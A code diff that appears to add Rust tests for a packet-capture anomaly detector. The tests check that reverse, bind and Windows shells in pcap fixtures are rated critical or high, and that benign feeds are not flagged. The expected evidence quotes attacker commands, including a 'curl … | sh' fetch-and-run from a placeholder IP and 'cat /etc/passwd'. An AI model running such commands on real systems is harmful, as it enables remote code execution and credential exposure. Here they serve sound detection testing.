@@ -274,10 +274,13 @@ fn evidence_of_each_guess() {
 
     let c2 = &find(&r, "interactive_session", gen::BACKDOORED)["anomaly"];
     assert_eq!(c2["interactive"]["turns"], 10);
+    // `uid=0(root)` and a `# ` prompt: a root shell.
     assert_eq!(
         find(&r, "interactive_session", gen::BACKDOORED)["severity"],
-        "high"
+        "critical"
     );
+    assert_eq!(c2["interactive"]["root"], true);
+    assert_eq!(c2["interactive"]["evidence"].as_array().unwrap().len(), 7);
 
     let beacon = &find(&r, "beacon", gen::BEACON_C2)["anomaly"]["beacon"];
     assert_eq!(beacon["count"], 8);
@@ -692,4 +695,157 @@ fn large_client_hello_across_segments_and_retransmission() {
         .as_str()
         .unwrap()
         .starts_with(&head));
+}
+
+/// One sign of a shell: (kind, toserver, quote).
+type Sign = (String, bool, String);
+
+/// (kind, severity, root, download_exec, the evidence) of the one finding of a capture.
+fn shell_finding(capture: &str) -> (String, String, bool, bool, Vec<Sign>) {
+    let r = run(&["read", testdata(capture).to_str().unwrap()]);
+    assert_eq!(r.code, Some(0), "{}", r.stderr);
+    let found: Vec<&Value> = r.of_type("anomaly").collect();
+    assert_eq!(found.len(), 1, "{capture}: {found:?}");
+    let e = found[0];
+    let i = &e["anomaly"]["interactive"];
+    let evidence = i["evidence"]
+        .as_array()
+        .map(|a| {
+            a.iter()
+                .map(|s| {
+                    (
+                        s["kind"].as_str().unwrap().to_string(),
+                        s["toserver"].as_bool().unwrap(),
+                        s["quote"].as_str().unwrap().to_string(),
+                    )
+                })
+                .collect()
+        })
+        .unwrap_or_default();
+    (
+        e["kind"].as_str().unwrap().into(),
+        e["severity"].as_str().unwrap().into(),
+        i["root"] == true,
+        i["download_exec"] == true,
+        evidence,
+    )
+}
+
+fn sign(kind: &str, toserver: bool, quote: &str) -> Sign {
+    (kind.into(), toserver, quote.into())
+}
+
+#[test]
+fn a_reverse_shell_running_a_download_is_critical() {
+    let (kind, severity, root, download, evidence) = shell_finding("anomaly/reverse_shell.pcap");
+    assert_eq!(
+        (kind.as_str(), severity.as_str(), root, download),
+        ("interactive_session", "critical", false, true)
+    );
+    // The victim called out to the listener on 3232: its prompt and output go towards it.
+    assert_eq!(
+        evidence,
+        [
+            sign("prompt", true, "bash-5.2$ "),
+            sign(
+                "output",
+                true,
+                "uid=1000(gw) gid=1000(gw) groups=1000(gw),20(dialout)"
+            ),
+            sign(
+                "output",
+                true,
+                "Linux gw-2 6.1.21-v8+ #1642 SMP PREEMPT aarch64 GNU/Linux"
+            ),
+            sign("command", false, "id"),
+            sign("command", false, "uname -a"),
+            sign("command", false, "curl -s http://203.0.113.20/k.sh | sh"),
+        ]
+    );
+}
+
+#[test]
+fn a_bind_shell_as_root_is_critical() {
+    let (kind, severity, root, download, evidence) = shell_finding("anomaly/bind_shell.pcap");
+    assert_eq!(
+        (kind.as_str(), severity.as_str(), root, download),
+        ("interactive_session", "critical", true, false)
+    );
+    assert_eq!(
+        evidence,
+        [
+            sign("command", true, "whoami"),
+            sign("command", true, "id"),
+            sign("command", true, "cat /etc/passwd"),
+            sign(
+                "output",
+                false,
+                "uid=0(root) gid=0(root) groups=0(root),1(bin)"
+            ),
+            sign("output", false, "root:x:0:0:root:/root:/bin/ash"),
+        ]
+    );
+}
+
+#[test]
+fn a_windows_cmd_shell_is_high() {
+    let (kind, severity, root, download, evidence) = shell_finding("anomaly/cmd_exe.pcap");
+    assert_eq!(
+        (kind.as_str(), severity.as_str(), root, download),
+        ("interactive_session", "high", false, false)
+    );
+    assert_eq!(
+        evidence[..4],
+        [
+            sign("command", true, "whoami"),
+            sign("command", true, "ipconfig"),
+            sign(
+                "output",
+                false,
+                "Microsoft Windows [Version 10.0.19045.4046]"
+            ),
+            sign("prompt", false, "C:\\\\Windows\\\\system32>"),
+        ]
+    );
+}
+
+#[test]
+fn a_line_based_sensor_feed_is_no_shell() {
+    let (kind, severity, _, _, evidence) = shell_finding("anomaly/sensor_feed.pcap");
+    assert_eq!(
+        (kind.as_str(), severity.as_str(), evidence.len()),
+        ("unexpected_tcp_service", "medium", 0)
+    );
+    let r = run(&[
+        "read",
+        testdata("anomaly/sensor_feed.pcap").to_str().unwrap(),
+    ]);
+    assert_eq!(
+        r.of_type("anomaly").next().unwrap()["anomaly"]["protocol_guess"],
+        "text"
+    );
+}
+
+#[test]
+fn no_interactive_session_on_ota_esphome_or_mdt_captures() {
+    let captures: Vec<_> = common::bundled_captures(common::Captures::WithReal)
+        .into_iter()
+        .filter(|p| {
+            let p = p.to_string_lossy();
+            ["/ota/", "/mdt/", "/mdns/", "demo.pcapng"]
+                .iter()
+                .any(|d| p.contains(d))
+        })
+        .collect();
+    assert!(captures.len() >= 25, "{captures:?}");
+    for cap in &captures {
+        let r = run(&["read", cap.to_str().unwrap()]);
+        assert_eq!(r.code, Some(0), "{}: {}", cap.display(), r.stderr);
+        assert_eq!(
+            r.of_kind("anomaly", "interactive_session").len(),
+            0,
+            "{}",
+            cap.display()
+        );
+    }
 }
